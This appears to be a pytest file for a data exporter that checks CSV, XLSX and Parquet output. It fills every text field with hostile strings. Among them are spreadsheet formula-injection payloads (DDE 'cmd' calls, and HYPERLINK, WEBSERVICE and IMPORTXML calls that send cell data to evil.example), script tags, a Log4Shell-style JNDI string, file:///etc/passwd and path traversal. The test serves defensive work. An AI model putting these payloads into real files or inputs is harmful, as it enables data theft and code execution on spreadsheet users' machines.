"""Hostile words in every field: no table breaks, no cell is a formula, the words come back or are replaced aloud."""

import itertools
import re
import warnings
import zipfile
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import openpyxl
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings

from hostile_strings import MANY
from rashomon.article import Origin
from rashomon.convert import Settings, conclude, convert_article
from rashomon.exports import ExportWarning
from rashomon.registry import load_registry
from rashomon.terms import DEFAULT_BASE
from rashomon.view import Article, Claim, Count, Disagreement, Entity, Event, Span, Statement, View, read_view
from rashomon.vocabulary import load_vocabulary
from strategies import Corpus, corpora
from strategy_names import BLANKS, BREAKS, CONTROL_WORDS, PLAIN_WORDS, REGISTRY
from tables_read_back import FORMULA, Made, Rows, export, raw_csv, read

BASE = "https://example.org/kg/"
FORMS = ("csv", "xlsx", "parquet")
OPENINGS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "'=",
    '"=',
    ";=",
    "\ufeff=",
    "\uff1d",
    "\x00=",
    "=\x00",
    "\u202e=",
    "|",
    "%",
)
COMMANDS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1,"click")',
    'WEBSERVICE("http://evil.example/"&A1)',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "1+1",
)
BROKEN = (
    "\x00", "a\x00b", "\x01\x02\x03\x07\x08", "\x0b\x0c\x0e\x1f", "\x7f\x80\x9b", "\ufffe\uffff", "\ud800",
    "a\udfffb", "\U0010ffff", "\r", "\n", "\r\n", "a\rb\nc\r\nd", "\u2028\u2029\x85", "\t\t", " ",
    "  lead and trail  ", "\xa0", '"', '""', '","', "'", "''", ",", ";", "; ", "\\", "\\;", "\\\\;", "a; b; c",
    ";;;", "]]>", "<![CDATA[x]]>", "<!--", "&amp;", "&#0;", "&lt;script&gt;", "<script>alert(1)</script>",
    "</t></is></c>", "<f>1+1</f>", "_x0041_", "_x000D_", "_x005F_x0000_", "\u202egpj.exe", "\u2066x\u2069",
    "\u200e\u200f", "e\u0301\u0323", "👩‍👩‍👧", "🇸🇾", "قُتِل", "שלום", "한국", "NaN", "NULL", "None", "TRUE",
    "true", "0", "007", "1e999", "1/2", "2019-08-21", "=", "+", "-", "@", "--", "http://evil.example/",
    "javascript:alert(1)", "file:///etc/passwd", "\\\\evil.example\\share", "%s%n", "${jndi:ldap://x}",
    "{{7*7}}", "x" * 3_000, "🙂" * 1_500, "=" * 1_000, "\\n", "\\u0000", "../../x", "C:\\x",
)  # fmt: skip
HOSTILE = tuple(
    dict.fromkeys(
        (
            *(opening + command for opening, command in itertools.product(OPENINGS, COMMANDS)),
            *BROKEN,
            *PLAIN_WORDS,
            *CONTROL_WORDS,
            *(f"a{blank}b" for blank in (*BLANKS, *BREAKS)),
            *(words for words in MANY if words),
        )
    )
)


def everything(words: str, number: int) -> View:
    """Put some words into every field that holds words."""
    article, actor, place = f"{BASE}article/a{number}", f"{BASE}entity/actor{number}", f"{BASE}entity/place{number}"
    event, coder = f"{BASE}event/e{number}", f"{BASE}coder/c{number}"
    dated, count = f"{BASE}statement/{number:032x}", f"{BASE}count/{number:032x}"
    span = Span(iri=f"{article}#offset_0_3", article=article, begin=0, end=3, quote=words)
    names = {"en": (words, "plain"), "ar": (words,)}
    claims = {
        f"{article}/claim-0-3-{who}": Claim(
            iri=f"{article}/claim-0-3-{who}",
            article=article,
            claimants=(actor,),
            on_behalf_of=(actor,),
            addressees=(actor,),
            evidence=(span, span),
            cue=(span,),
            hedge=(span,),
            wording=(span,),
            content=(event, dated, count),
            text=words,
            coders=(coder,),
            parties=(actor,),
        )
        for who in "ab"
    }
    return View(
        articles={
            article: Article(iri=article, headline=words, language=words, url=words, publisher=actor, agency=actor)
        },
        entities={
            actor: Entity(
                iri=actor, kind="actor", label=words, names=names, type=words, type_label=words, links=(words,)
            ),
            place: Entity(iri=place, kind="place", label=words, names=names, wkt=words, evidence=(span,)),
        },
        events={
            event: Event(
                iri=event,
                label=words,
                type=words,
                type_label=words,
                key=words,
                names=names,
                places=(place,),
                edtf=words,
                time_as_written=(words, words),
                status=words,
                evidence=(span,),
            )
        },
        statements={
            dated: Statement(
                iri=dated, subject=event, role="happenedOn", predicate="happenedOn", object=words, status=words
            )
        },
        counts={count: Count(iri=count, of=event, measure=words, group=actor, value=number, evidence=(span,))},
        claims=claims,
        disagreements={
            f"{BASE}disagreement/{number}": Disagreement(
                iri=f"{BASE}disagreement/{number}",
                between=(min(claims), max(claims)),
                basis=words,
                judged_by=(coder,),
                why=words,
            )
        },
        labels={coder: words},
    )


@cache
def hostile() -> View:
    parts = [everything(words, number) for number, words in enumerate(HOSTILE)]
    return View(
        **{
            field: dict(sorted((iri, it) for part in parts for iri, it in getattr(part, field).items()))
            for field in ("articles", "entities", "events", "statements", "counts", "claims", "disagreements", "labels")
        }
    )


@cache
def place(form: str) -> Path:
    return made_with_warnings(form)[0]


@cache
def made_with_warnings(form: str) -> tuple[Path, tuple[str, ...]]:
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always", ExportWarning)
        folder = export(Made(hostile()), form)
    return folder, tuple(str(one.message) for one in caught if one.category is ExportWarning)


@cache
def found(form: str) -> dict[str, Rows]:
    return read(place(form), form)


def as_csv_has_it(words: str) -> str:
    """What the rule of the CSV tables makes of a cell, after its apostrophe was taken off."""
    words = words.replace("\0", "\ufffd")
    return words[1:] if words.startswith("'") and words[1:].startswith(FORMULA) else words


def as_xlsx_has_it(words: str) -> str:
    words = re.sub("(?<=_x[0-9a-fA-F]{4})_(?=x[0-9a-fA-F]{4}_)", "\ufffd", re.sub("\r\n?", "\n", words))
    return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", "\ufffd", words)


def changed(cell: Any, rule: Any) -> Any:
    if isinstance(cell, tuple):
        return tuple(rule(item) for item in cell)
    return rule(cell) if isinstance(cell, str) else cell


def texts(rows: Rows) -> Iterator[str]:
    for row in rows:
        for cell in row.values():
            if isinstance(cell, str):
                yield cell
            elif isinstance(cell, tuple):
                yield from cell


def test_there_are_enough_hostile_words() -> None:
    print(len(HOSTILE), "hostile strings")
    assert len(HOSTILE) >= 600


@pytest.mark.parametrize(
    ("table", "column"),
    [
        ("articles", "headline"),
        ("articles", "language"),
        ("actors", "label"),
        ("actors", "type"),
        ("places", "label"),
        ("places", "wkt"),
        ("events", "label"),
        ("events", "key"),
        ("events", "edtf"),
        ("participations", "participant_label"),
        ("counts", "group_label"),
        ("claims", "text"),
        ("disagreements", "why"),
        ("quotes", "quote"),
    ],
)
def test_parquet_holds_all_words_as_they_are(table: str, column: str) -> None:
    wanted = {re.sub("[\ud800-\udfff]", "\ufffd", words) for words in HOSTILE}
    assert {row[column] for row in found("parquet")[table]} == wanted


def test_pyarrow_reads_all_of_it_too() -> None:
    for name, rows in found("parquet").items():
        theirs = pq.read_table(place("parquet") / f"{name}.parquet").to_pylist()
        assert [
            {key: tuple(cell) if isinstance(cell, list) else cell for key, cell in row.items()} for row in theirs
        ] == rows


@pytest.mark.parametrize(("form", "rule"), [("csv", as_csv_has_it), ("xlsx", as_xlsx_has_it)])
def test_other_forms_hold_the_same_but_for_what_they_cannot_hold(form: str, rule: Any) -> None:
    cells = 0
    for name, rows in found("parquet").items():
        assert len(found(form)[name]) == len(rows)
        for row, theirs in zip(rows, found(form)[name], strict=True):
            for column, cell in row.items():
                cells += 1
                if theirs[column] != cell:
                    assert changed(theirs[column], rule) == changed(cell, rule), (name, column)
    print(cells, "cells of", form, "are those of Parquet")
    assert cells > 30_000


def test_no_cell_of_a_csv_can_be_taken_for_a_formula() -> None:
    defused = 0
    for file in place("csv").glob("*.csv"):
        for row in raw_csv(file):
            for name, cell in row.items():
                number = re.fullmatch(r"-?[0-9.]+", cell) and name in {"low", "best", "high"}
                assert number or not cell.startswith(FORMULA), (file.name, name, cell[:40])
                defused += cell.startswith("'")
    assert defused > 1_000


def test_csv_without_a_nul_and_with_even_rows() -> None:
    for file in place("csv").glob("*.csv"):
        assert b"\0" not in file.read_bytes()
        assert all(None not in row and None not in row.values() for row in raw_csv(file)), file.name


def test_the_workbook_is_well_formed_and_all_its_texts_are_texts() -> None:
    with zipfile.ZipFile(place("xlsx")) as archive:
        assert archive.testzip() is None
        for name in archive.namelist():
            root = ET.fromstring(archive.read(name))
            assert not [node for node in root.iter() if node.tag.endswith("}f")], name
            assert not [node for node in root.iter() if node.get("TargetMode") == "External"], name
    for sheet in openpyxl.load_workbook(place("xlsx")):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in {"s", "n", "b", "d"}
                assert not cell.hyperlink


def test_what_is_replaced_is_told() -> None:
    for form, words in (("csv", "NUL characters"), ("xlsx", "characters, which no workbook")):
        assert any(words in told for told in made_with_warnings(form)[1])
    assert "NUL characters" in (place("csv") / "README.txt").read_text(encoding="utf-8")
    assert made_with_warnings("parquet")[1] == ()


def viewed(corpus: Corpus, folder: Path) -> View:
    """Convert a corpus and read it as a view."""
    (folder / "registry.toml").write_text(REGISTRY, encoding="utf-8")
    registry = load_registry([folder / "registry.toml"], load_vocabulary(), lambda _: None)
    how = (Origin("any.json"), registry, load_vocabulary(), Settings(DEFAULT_BASE), lambda _: None)
    converted = [convert_article(article, *how) for article in corpus.articles]
    ended = conclude([one.record for one in converted], registry, Settings(DEFAULT_BASE), lambda _: None)
    return read_view({*(line for one in converted for line in one.lines), *ended.lines, *registry.lines(DEFAULT_BASE)})


@settings(max_examples=12, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))
@given(corpus=corpora(most_articles=3))
def test_any_corpus_is_the_same_in_all_forms(tmp_path_factory: pytest.TempPathFactory, corpus: Corpus) -> None:
    view = viewed(corpus, tmp_path_factory.mktemp("corpus"))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", ExportWarning)
        parquet, sheets, csv = (read(export(Made(view), form), form) for form in ("parquet", "xlsx", "csv"))
    assert len(parquet["articles"]) == len(corpus.articles)
    for name, rows in parquet.items():
        assert len(csv[name]) == len(sheets[name]) == len(rows)
        for row, one, other in zip(rows, csv[name], sheets[name], strict=True):
            assert {key: changed(cell, as_csv_has_it) for key, cell in one.items()} == {
                key: changed(cell, as_csv_has_it) for key, cell in row.items()
            }
            assert other == {key: changed(cell, as_xlsx_has_it) for key, cell in row.items()}
